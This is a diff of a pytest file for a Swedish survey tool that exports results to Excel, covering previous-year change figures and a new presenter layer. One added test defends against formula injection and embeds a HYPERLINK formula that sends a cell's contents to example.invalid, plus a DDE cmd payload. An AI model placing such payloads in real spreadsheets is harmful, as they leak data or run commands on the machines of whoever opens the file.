@@ -13,8 +13,9 @@ import pytest
 from lagesbild.calc import rules
 from lagesbild.ingest.tabular import Table
 from lagesbild.ingest.readers import read_path
-from lagesbild.reports.survey_xlsx import SUMMARY, describe_rule, sheet_names, write_survey_xlsx
+from lagesbild.reports.survey_xlsx import SUMMARY, sheet_names, write_survey_xlsx
 from lagesbild.surveys.engine import compute
+from lagesbild.surveys.presenters import describe_rule, present
 from lagesbild.surveys.responses import validate
 from lagesbild.surveys.spec import load_spec, parse_spec
 
@@ -53,7 +54,7 @@ def previous(result):
 @pytest.fixture(scope="module")
 def workbook(result, tmp_path_factory) -> Path:
     path = tmp_path_factory.mktemp("xlsx") / "sos-2025.xlsx"
-    write_survey_xlsx(result, path)
+    write_survey_xlsx(present(result), path)
     return path
 
 
@@ -181,8 +182,10 @@ def test_sheet_layout_freezes_and_filters(workbook):
 
 
 def test_previous_year_and_change(result, previous, tmp_path):
+    """Previous year's figures and the change: cached and recalculated, equal to the presenter's."""
     path = tmp_path / "med-jmf.xlsx"
-    write_survey_xlsx(result, path, previous=previous)
+    report = present(result, previous)
+    write_survey_xlsx(report, path)
     ws_f = openpyxl.load_workbook(path)[SUMMARY]
     ws_v = openpyxl.load_workbook(path, data_only=True)[SUMMARY]
     rows = summary_rows(ws_f)
@@ -190,14 +193,68 @@ def test_previous_year_and_change(result, previous, tmp_path):
     assert ws_f[f"J{header}"].value == "Föregående år (%)"
     assert ws_f[f"K{header}"].value == "Förändring (procentenheter)"
     values = recalculated(path, tmp_path)
-    for ind in result.indicators:
-        row = rows[ind.spec.id]
-        before = previous.indicator(ind.spec.id).percent
-        change = float((ind.percent - before).quantize(Decimal("0.1")))
-        assert ws_v[f"J{row}"].value == float(before)
+    for r in report.rows:
+        row = rows[r.id]
+        assert ws_v[f"J{row}"].value == float(r.previous.percent)
+        assert as_python(values[(SUMMARY.upper(), f"J{row}")]) == float(r.previous.percent)
         assert str(ws_f[f"K{row}"].value).startswith("=IF(")
-        assert ws_v[f"K{row}"].value == change
-        assert as_python(values[(SUMMARY.upper(), f"K{row}")]) == pytest.approx(change, abs=1e-9)
+        assert ws_v[f"K{row}"].value == float(r.change)
+        assert as_python(values[(SUMMARY.upper(), f"K{row}")]) == pytest.approx(float(r.change), abs=1e-9)
+
+
+def one_indicator(survey_id: str, year: int, answers: list[str]):
+    spec = parse_spec(
+        f"""
+survey: {{id: {survey_id}, title: Enkät {year}, year: {year}}}
+questions:
+  Q1: {{options: ["Ja", "Nej"]}}
+indicators:
+  - {{id: I1, title: En fråga, rule: {{question: Q1, in: ["Ja"]}}}}
+"""
+    )
+    table = Table("svar.csv", ["respondent", "Q1"], [(i + 2, [f"R{i}", a]) for i, a in enumerate(answers)])
+    return compute(spec, validate(spec, table))
+
+
+def test_change_comes_from_the_exact_ratios_as_on_the_web(tmp_path):
+    """1/3 against 1/6: 33,3 − 16,7 would be 16,6; the exact change is 16,67 → +16,7 as on the web."""
+    now = one_indicator("nu", 2025, ["Ja", "Nej", "Nej"])
+    before = one_indicator("da", 2024, ["Ja", "Nej", "Nej", "Nej", "Nej", "Nej"])
+    report = present(now, before)
+    web = report.row("I1")
+    assert web.change_text == "+16,7 procentenheter"
+    path = tmp_path / "en-tredjedel.xlsx"
+    write_survey_xlsx(report, path)
+    ws = openpyxl.load_workbook(path, data_only=True)[SUMMARY]
+    row = summary_rows(ws)["I1"]
+    assert ws[f"K{row}"].value == float(web.change)
+    assert as_python(recalculated(path, tmp_path)[(SUMMARY.upper(), f"K{row}")]) == float(web.change)
+
+
+def test_user_supplied_text_is_written_as_text_not_as_a_formula(tmp_path):
+    """A title, statement or answer that looks like a formula stays a string cell."""
+    evil = '=HYPERLINK("http://example.invalid/?m="&A1,"Öppna")'
+    spec = parse_spec(
+        f"""
+survey: {{id: x, title: '{evil}', year: 2025}}
+questions:
+  Q1: {{text: '{evil}', options: ["Ja", "=1+1"]}}
+indicators:
+  - {{id: '@I1', title: '{evil}', statement: '+{{percent}} {evil}', description: '-{evil}', rule: {{question: Q1, in: ["Ja"]}}}}
+"""
+    )
+    table = Table("svar.csv", ["respondent", "Q1"], [(2, ["=cmd|' /C calc'!A0", "=1+1"]), (3, ["B", "Ja"])])
+    path = tmp_path / "formel.xlsx"
+    write_survey_xlsx(present(compute(spec, validate(spec, table))), path)
+    wb = openpyxl.load_workbook(path)
+    texts = [c for ws in wb for r in ws.iter_rows() for c in r if isinstance(c.value, str) and c.value[:1] in "=+-@"]
+    ours = [c for c in texts if c.data_type == "f"]
+    supplied = [c for c in texts if c.data_type != "f"]
+    assert {c.value for c in supplied} >= {evil, "=1+1", "=cmd|' /C calc'!A0", "@I1", f"-{evil}"}
+    assert all(c.data_type == "s" for c in supplied)
+    # The only formulas are the writer's own figures, none of them carries supplied text.
+    assert ours and not any("HYPERLINK" in c.value or "cmd" in c.value for c in ours)
+    assert wb[SUMMARY]["A1"].value == evil and wb[SUMMARY]["A1"].data_type == "s"
 
 
 def test_indicator_without_answers_has_empty_percent(tmp_path):
@@ -213,7 +270,7 @@ indicators:
     table = Table("svar.csv", ["respondent", "Q1"], [(2, ["A", "Vet ej"]), (3, ["B", ""])])
     res = compute(spec, validate(spec, table))
     buffer = io.BytesIO()
-    write_survey_xlsx(res, buffer)
+    write_survey_xlsx(present(res), buffer)
     path = tmp_path / "tom.xlsx"
     path.write_bytes(buffer.getvalue())
     wb = openpyxl.load_workbook(path, data_only=True)
